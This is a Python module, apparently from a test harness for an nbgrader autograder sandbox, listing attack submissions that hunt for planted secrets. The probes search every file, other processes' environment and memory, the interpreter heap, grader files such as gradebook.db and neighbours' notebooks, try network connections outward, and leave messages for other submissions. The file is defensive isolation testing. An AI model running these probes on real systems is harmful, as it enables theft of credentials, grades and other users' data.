"""Secrets are looked for everywhere: files, memory, processes, environment, the network."""

from __future__ import annotations

from .attack import WRONG, Attack, last

#: What the harness plants looks like this; attacks know the form and not the words.
FIND = """
import os, re
TOKEN = re.compile(rb'SECRET-[a-z]+-[0-9a-f]{12}')
found = set()
def search(path, size=1 << 20):
    try:
        if os.path.isfile(path):
            with open(path, 'rb') as f: found.update(TOKEN.findall(f.read(size)))
    except OSError: pass
def tell():
    print('looked', len(dir()), sorted(found))
"""
EVERY_FILE = """
for top, folders, names in os.walk('/'):
    folders[:] = [f for f in folders if f not in ('usr', 'lib', 'environment', 'sys', 'proc')]
    for name in names: search(os.path.join(top, name))
"""
PROCESSES = """
for pid in [*map(str, range(1, 400)), 'self', 'thread-self']:
    for name in ('environ', 'cmdline', 'maps', 'mountinfo', 'cwd', 'root', 'mem'):
        search(f'/proc/{pid}/{name}')
    for folder in ('fd', 'cwd', 'root', 'map_files'):
        try:
            for name in os.listdir(f'/proc/{pid}/{folder}'): search(f'/proc/{pid}/{folder}/{name}')
        except OSError: pass
"""
MEMORY = """
def scan():
    with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            if 'r' not in rights or '[v' in line: continue
            start, end = (int(n, 16) for n in span.split('-'))
            for at in range(start, end, 1 << 20):
                try:
                    memory.seek(at)
                    found.update(TOKEN.findall(memory.read(min(1 << 20, end - at))))
                except (OSError, ValueError): pass
scan()
"""
NETWORK = """
import socket
answers = []
for port in PORTS:
    for family, host in ((2, '127.0.0.1'), (10, '::1'), (2, '10.0.2.2'), (2, '172.17.0.1')):
        try:
            with socket.socket(family) as s:
                s.settimeout(0.05)
                s.connect((host, port))
                s.send(b'out')
                answers.append((host, port))
        except OSError: pass
try: answers.append(socket.getaddrinfo('example.org', 80))
except OSError: pass
for name in open('/proc/net/unix').read().split():
    if name.startswith('@'):
        try:
            with socket.socket(1) as s: s.connect(chr(0) + name[1:]); answers.append(name)
        except OSError: pass
print('tried', answers)
""".replace("PORTS", "(80, 443, 5432, 8888, 8000, 22)")
REPORT = "def softmax(z, axis=-1):\n    raise ValueError(f'looked {sorted(found)}')\n"

ATTACKS = (
    Attack("read-every-file", "every file that can be opened is searched",
           WRONG + FIND + EVERY_FILE + "tell()", in_class=True, tried="looked"),
    Attack("read-in-the-test", "the same while the test runs, and told as an error",
           FIND + REPORT.replace("    raise", EVERY_FILE.replace("\n", "\n    ") + "\n    raise"),
           in_class=True, tried="looked", holds="Nothing is read by way of a test either."),
    Attack("read-by-climbing", "relative paths lead out of the folder",
           WRONG + FIND + "for up in range(12):\n"
           "    for top, folders, names in os.walk('../' * up or '.'):\n"
           "        if top.count('/') > up + 5 or top.startswith(('/usr', '/proc')): continue\n"
           "        folders[:] = [f for f in folders if f not in ('usr', 'lib', 'proc', 'sys',"
           " 'environment')]\n"
           "        for name in names: search(os.path.join(top, name))\ntell()",
           in_class=True, tried="looked"),
    Attack("read-known-places", "the places where nbgrader keeps things",
           WRONG + FIND + "for base in ('', '..', '../..', '../../..', '/srv/nbgrader',"
           " os.path.expanduser('~')):\n"
           "    for name in ('gradebook.db', 'gradebook-note.txt', 'nbgrader_config.py',\n"
           "                 'submitted/a-neighbour/ch1_tiny/tiny.ipynb',\n"
           "                 'source/ch1_tiny/tiny.ipynb',\n"
           "                 'source_notebooks/ch1_tiny/tiny.ipynb',\n"
           "                 'source_notebooks/ch1_tiny/mistakes.py'):\n"
           "        search(os.path.join(base, name), 1 << 24)\ntell()",
           in_class=True, tried="looked"),
    Attack("read-environment", "the environment of this process and of all that can be seen",
           WRONG + FIND + "found.update(TOKEN.findall(repr(dict(os.environ)).encode()))\n"
           "import subprocess\n"
           "found.update(TOKEN.findall(subprocess.run('env; export; set', shell=True, "
           "capture_output=True).stdout))\n" + PROCESSES + "tell()",
           in_class=True, tried="looked"),
    Attack("read-processes", "command lines, open files, roots and memory of other processes",
           WRONG + FIND + PROCESSES + "tell()", in_class=True, tried="looked"),
    Attack("read-own-memory", "memory that earlier submissions may have left behind",
           WRONG + FIND + "own = b'SECRET-' + b'own-' + b'ab' * 6\n" + MEMORY + "tell()",
           in_class=True, tried="own-abab",  # it finds what is its own
           holds="What was handed in before is in no memory that a submission gets."),
    Attack("read-descriptors", "every open descriptor is read and listed",
           WRONG + FIND + "import stat\n"
           "for fd in range(256):\n    try:\n"
           "        mode = os.fstat(fd).st_mode\n"
           "        if stat.S_ISDIR(mode): print('looked at a folder', os.listdir(fd))\n"
           "        elif stat.S_ISREG(mode): found.update(TOKEN.findall(os.pread(fd, 1<<20, 0)))\n"
           "    except OSError: pass\ntell()",
           in_class=True, tried="looked"),
    Attack("read-mounts", "what is mounted is searched below every mount point",
           WRONG + FIND + "for line in open('/proc/self/mountinfo'):\n"
           "    for top, folders, names in os.walk(line.split()[4]):\n"
           "        if top.startswith(('/usr', '/lib', '/environment', '/proc', '/sys')):\n"
           "            folders.clear(); continue\n"
           "        for name in names: search(os.path.join(top, name))\ntell()",
           in_class=True, tried="looked"),
    Attack("read-heap", "every object of the interpreter is searched",
           WRONG + FIND + "import gc\nfor o in gc.get_objects():\n"
           "    try:\n        if type(o) in (dict, list, tuple) and len(o) < 5000:\n"
           "            found.update(TOKEN.findall(repr(o)[:1 << 20].encode()))\n"
           "    except BaseException: pass\ntell()",
           in_class=True, tried="looked", not_under_stock="takes its whole time limit"),
    Attack("send-home", "connections to this machine, its network and the world",
           WRONG + NETWORK, in_class=True, tried="tried []",
           holds="No connection is made; no name is found."),
    Attack("leave-a-message", "one submission leaves a file where another one could find it",
           WRONG + "import os\nfor place in ('/tmp', '/dev/shm', '/var/tmp', '/run/lock', '.', "
           "'..', '/home', os.path.expanduser('~')):\n"
           "    try:\n        with open(f'{place}/dbh-left-behind', 'w') as f:\n"
           "            f.write('the answer is b')\n    except OSError: pass\n"
           "from multiprocessing import shared_memory\n"
           "try: shared_memory.SharedMemory('dbh-left-behind', create=True, size=10)\n"
           "except OSError: pass\nprint('left')",
           in_class=True, tried="left"),
    Attack("message-to-find", "the other submission looks for it",
           # everywhere but in what is read-only for all: Python, packages, the course's own code
           WRONG + "import os, sys\nshared = {'/' + p for p in\n"
           "          ('usr', 'lib', 'environment', 'opt', 'sys', 'proc')} | {sys.base_prefix}\n"
           "found = []\nfor t, fs, ns in os.walk('/'):\n"
           "    fs[:] = [f for f in fs if os.path.join(t, f) not in shared]\n"
           "    found += [os.path.join(t, n) for n in ns if n == 'dbh-left-behind']\n"
           "print('looked', found)",
           change=last("print('end')"), in_class=True, tried="looked []"),
)  # fmt: skip
